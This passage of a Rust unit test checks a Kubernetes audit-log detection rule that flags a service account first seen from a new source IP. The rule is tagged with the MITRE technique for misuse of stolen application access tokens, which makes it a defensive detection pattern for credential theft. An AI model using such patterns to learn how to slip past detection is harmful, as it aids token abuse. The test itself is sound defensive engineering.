    attack: {tactics: [TA0005], techniques: [T1550.001]}
    match: {users: ["system:serviceaccount:*"], subresources: ["*"]}
    condition: "true"
    stateful: {kind: first_seen, key: [ka.user.name, ka.sourceIP], learning: 10m}
    output: "%ka.user.name from %ka.sourceIP"
    remediation: [Check the address.]
"#,
        "corp.yaml",
    )
    .unwrap_or_else(|e| panic!("{e}"));
    let ev = |ip: &str, t: i64| B::new("list", "pods").sa("shop", "web").ip(ip).at(t).build();
    let seq = vec![
        ev("10.244.1.5", T0),               // learning
        ev("10.244.1.6", T0 + 60_000_000),  // learning
        ev("10.244.1.5", T0 + 900_000_000), // known
        ev("10.244.9.9", T0 + 901_000_000), // new: alert
        ev("10.244.9.9", T0 + 902_000_000), // known now
    ];
    let mut eng = Engine::new(&rs, EngineConfig::default()).unwrap_or_else(|e| panic!("{e}"));
    let mut hits = Vec::new();
    for (i, e) in seq.iter().enumerate() {
        let mut out = Vec::new();
        eng.process(&Event::Audit(parse_event(e).unwrap()), &mut out);
        if out.iter().any(|a| a.rule.id == "CORP-010") {
            hits.push(i);
        }
    }
    assert_eq!(hits, vec![3]);
}
